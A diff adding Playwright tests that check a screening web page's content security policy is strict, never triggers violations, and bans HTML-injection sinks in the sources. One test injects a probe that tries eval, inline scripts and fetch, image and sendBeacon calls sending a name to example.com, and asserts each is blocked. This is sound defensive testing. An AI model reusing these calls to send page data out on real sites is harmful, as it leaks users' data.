@@ -1,0 +1,86 @@
+// The content security policy: it holds, the page never runs into it, and it stops what it should.
+
+import { expect, test } from "./screener-page.js";
+
+/** Runs `code` as a script of the page itself: what Playwright evaluates is not under the policy. @param {import("@playwright/test").Page} page @param {string} code */
+async function runInPage(page, code) {
+  await page.route("**/probe.js", (route) => route.fulfill({ contentType: "text/javascript", body: code }));
+  await page.evaluate(() => new Promise((resolve, reject) => {
+    const script = document.createElement("script");
+    script.src = "/probe.js";
+    script.onload = () => resolve(undefined);
+    script.onerror = () => reject(new Error("the probe did not load"));
+    document.head.append(script);
+  }));
+}
+
+/** Records violations from the very start. @param {import("@playwright/test").Page} page */
+async function recordViolations(page) {
+  await page.addInitScript(() => {
+    Object.assign(window, { violations: [] });
+    addEventListener("securitypolicyviolation", (event) => Reflect.get(window, "violations").push(`${event.effectiveDirective} ${event.blockedURI}`));
+  });
+}
+
+const violations = (/** @type {import("@playwright/test").Page} */ page) => page.evaluate(() => Reflect.get(window, "violations"));
+
+test("header and page state the policy, and it allows nothing but the page's own files", async ({ page, screener }) => {
+  const response = await page.goto("/");
+  const header = response?.headers()["content-security-policy"] ?? "";
+  const meta = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content")) ?? "";
+  for (const policy of [header, meta]) {
+    expect(policy).toContain("default-src 'none'");
+    expect(policy).toContain("form-action 'none'");
+    expect(policy).toContain("base-uri 'none'");
+    expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|data:|blob:|\*/);
+  }
+  await screener.loaded();
+});
+
+test("the page never violates it", async ({ page, screener }) => {
+  await recordViolations(page);
+  await screener.open();
+  await screener.screen("Kim Yong Chol");
+  await page.keyboard.press("ArrowDown");
+  await page.getByRole("button", { name: "Help" }).click();
+  expect(await violations(page)).toEqual([]);
+});
+
+test("it stops eval, inline code and requests to elsewhere", async ({ page, screener }) => {
+  await recordViolations(page);
+  await screener.open();
+  await runInPage(page, `
+    window.ran = [];
+    try { eval("window.ran.push('eval')"); } catch {}
+    try { new Function("window.ran.push('function')")(); } catch {}
+    const inline = document.createElement("script");
+    inline.textContent = "window.ran.push('inline')";
+    document.head.append(inline);
+    document.body.setAttribute("onclick", "window.ran.push('handler')");
+    document.body.click();
+    window.fetched = fetch("https://example.com/?name=x").then(() => "fetched", () => "blocked");
+    new Image().src = "https://example.com/x.png";
+    navigator.sendBeacon("https://example.com/", "name");
+  `);
+  expect(await page.evaluate(() => Reflect.get(window, "fetched"))).toBe("blocked");
+  expect(await page.evaluate(() => Reflect.get(window, "ran"))).toEqual([]);
+  const stopped = await violations(page);
+  for (const directive of ["connect-src", "img-src", "script-src-elem"]) {
+    expect(stopped.some((/** @type {string} */ one) => one.startsWith(directive)), directive).toBe(true);
+  }
+});
+
+test("nothing in the page's sources makes markup of text", async ({ page, screener }) => {
+  /** @type {Promise<[string, string]>[]} */
+  const scripts = [];
+  page.on("response", (response) => {
+    const { pathname } = new URL(response.url());
+    if (/\.js$/.test(pathname) && !pathname.startsWith("/pkg/")) scripts.push(response.text().then((text) => [pathname, text]));
+  });
+  await screener.open();
+  const sources = await Promise.all(scripts);
+  expect(sources.length).toBeGreaterThan(20);
+  for (const [name, text] of sources) {
+    expect(text, name).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment|setHTML/);
+  }
+});
